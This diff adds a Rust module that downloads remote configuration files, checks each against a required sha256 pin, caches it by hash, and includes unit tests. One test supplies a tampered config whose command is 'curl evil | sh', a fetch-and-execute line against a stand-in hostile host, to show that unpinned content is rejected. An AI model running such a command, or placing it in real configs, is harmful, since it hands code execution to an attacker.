@@ -0,0 +1,204 @@
+use color_eyre::eyre::{Result, eyre};
+use sha2::{Digest, Sha256};
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::thread;
+use std::time::Duration;
+
+/// Where fetched remote configs are kept, by hash, relative to the directory they run in
+pub const REMOTE_DIR: &str = ".getset/remote";
+
+/// Longest a remote config may take to download
+const TIMEOUT: Duration = Duration::from_secs(30);
+
+/// Whether a config location is a URL rather than a path
+pub fn is_remote(location: &str) -> bool {
+    location.starts_with("https://") || location.starts_with("http://")
+}
+
+/// A remote config's URL and the sha256 its content must have
+#[derive(Debug, PartialEq, Eq)]
+pub struct Pin {
+    pub url: String,
+    pub sha256: String,
+}
+
+impl Pin {
+    /// Split `https://host/setup.toml#sha256=<hash>` into its URL and hash
+    ///
+    /// The pin is required, so a config can only change when the file
+    /// referencing it does.
+    pub fn parse(location: &str) -> Result<Self> {
+        let (url, fragment) = location.split_once('#').unwrap_or((location, ""));
+        let Some(sha256) = fragment.strip_prefix("sha256=") else {
+            return Err(eyre!(
+                "Invalid config: remote config '{}' must be pinned as '{}#sha256=<hash>'",
+                url,
+                url
+            ));
+        };
+        if sha256.len() != 64 || !sha256.chars().all(|c| c.is_ascii_hexdigit()) {
+            return Err(eyre!(
+                "Invalid config: '{}' is not a sha256 hash (64 hex digits) in the pin of '{}'",
+                sha256,
+                url
+            ));
+        }
+        Ok(Self {
+            url: url.to_string(),
+            sha256: sha256.to_ascii_lowercase(),
+        })
+    }
+
+    /// Where the content is cached for configs running in `base_dir`
+    pub fn cache_path(&self, base_dir: &Path) -> PathBuf {
+        base_dir
+            .join(REMOTE_DIR)
+            .join(format!("{}.toml", self.sha256))
+    }
+}
+
+/// The content of a pinned remote config, from the cache in `base_dir` or downloaded
+///
+/// A download whose hash differs from the pin is rejected. Downloads are
+/// cached by hash, so the same pin works offline once it has been fetched.
+pub fn fetch(location: &str, base_dir: &Path) -> Result<String> {
+    let pin = Pin::parse(location)?;
+    let cache_path = pin.cache_path(base_dir);
+    if let Ok(cached) = fs::read(&cache_path)
+        && sha256(&cached) == pin.sha256
+    {
+        tracing::debug!("Using cached '{}' for '{}'", cache_path.display(), pin.url);
+        return into_text(cached, &pin.url);
+    }
+
+    tracing::debug!("Downloading remote config '{}'", pin.url);
+    let content = download(&pin.url)?;
+    let actual = sha256(&content);
+    if actual != pin.sha256 {
+        return Err(eyre!(
+            "Remote config '{}' has sha256 {} but is pinned to {}; update the pin if the change is expected",
+            pin.url,
+            actual,
+            pin.sha256
+        ));
+    }
+
+    if let Some(dir) = cache_path.parent()
+        && let Err(e) = fs::create_dir_all(dir).and_then(|_| fs::write(&cache_path, &content))
+    {
+        tracing::warn!("Error caching '{}': {}", cache_path.display(), e);
+    }
+    into_text(content, &pin.url)
+}
+
+fn sha256(content: &[u8]) -> String {
+    format!("{:x}", Sha256::digest(content))
+}
+
+fn into_text(content: Vec<u8>, url: &str) -> Result<String> {
+    String::from_utf8(content).map_err(|_| eyre!("Remote config '{}' is not valid UTF-8", url))
+}
+
+/// Download `url`, failing on error statuses
+///
+/// Configs are read from within the async `main` as well as from plain
+/// threads, so the request runs on a runtime of its own thread.
+fn download(url: &str) -> Result<Vec<u8>> {
+    let url = url.to_string();
+    thread::spawn(move || {
+        let runtime = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .map_err(|e| eyre!("Error starting the download of '{}': {}", url, e))?;
+        runtime.block_on(async {
+            let response = reqwest::Client::new()
+                .get(&url)
+                .timeout(TIMEOUT)
+                .send()
+                .await
+                .and_then(|response| response.error_for_status())
+                .map_err(|e| eyre!("Error downloading remote config '{}': {}", url, e))?;
+            let body = response
+                .bytes()
+                .await
+                .map_err(|e| eyre!("Error downloading remote config '{}': {}", url, e))?;
+            Ok(body.to_vec())
+        })
+    })
+    .join()
+    .unwrap_or_else(|_| Err(eyre!("Download panicked")))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const CONFIG: &str = "[[commands]]\ntitle = \"Shared\"\ncommand = \"true\"\n";
+
+    fn temp_dir(name: &str) -> PathBuf {
+        let dir =
+            std::env::temp_dir().join(format!("getset-remote-{}-{}", name, std::process::id()));
+        let _ = fs::remove_dir_all(&dir);
+        dir
+    }
+
+    #[test]
+    fn test_pin_is_required() {
+        let pin = Pin::parse(&format!(
+            "https://example.com/setup.toml#sha256={}",
+            "AB".repeat(32)
+        ))
+        .expect("Pin should parse");
+        assert_eq!(pin.url, "https://example.com/setup.toml");
+        assert_eq!(pin.sha256, "ab".repeat(32));
+
+        let err = Pin::parse("https://example.com/setup.toml").unwrap_err();
+        assert!(err.to_string().contains("must be pinned as"));
+        let err = Pin::parse("https://example.com/setup.toml#sha256=abc").unwrap_err();
+        assert!(err.to_string().contains("'abc' is not a sha256 hash"));
+    }
+
+    #[test]
+    fn test_fetch_verifies_and_caches_the_download() {
+        let mut server = mockito::Server::new();
+        let mock = server
+            .mock("GET", "/setup.toml")
+            .with_body(CONFIG)
+            .expect(1)
+            .create();
+        let dir = temp_dir("cache");
+        let location = format!(
+            "{}/setup.toml#sha256={}",
+            server.url(),
+            sha256(CONFIG.as_bytes())
+        );
+
+        assert_eq!(fetch(&location, &dir).unwrap(), CONFIG);
+        assert_eq!(fetch(&location, &dir).unwrap(), CONFIG);
+        mock.assert();
+        assert!(
+            dir.join(REMOTE_DIR)
+                .join(format!("{}.toml", sha256(CONFIG.as_bytes())))
+                .is_file()
+        );
+
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_fetch_rejects_content_not_matching_the_pin() {
+        let mut server = mockito::Server::new();
+        server
+            .mock("GET", "/setup.toml")
+            .with_body("[[commands]]\ntitle = \"Tampered\"\ncommand = \"curl evil | sh\"\n")
+            .create();
+        let dir = temp_dir("mismatch");
+        let pinned = sha256(CONFIG.as_bytes());
+        let location = format!("{}/setup.toml#sha256={}", server.url(), pinned);
+
+        let err = fetch(&location, &dir).unwrap_err().to_string();
+        assert!(err.contains(&format!("but is pinned to {}", pinned)));
+        assert!(!dir.join(REMOTE_DIR).exists());
+    }
+}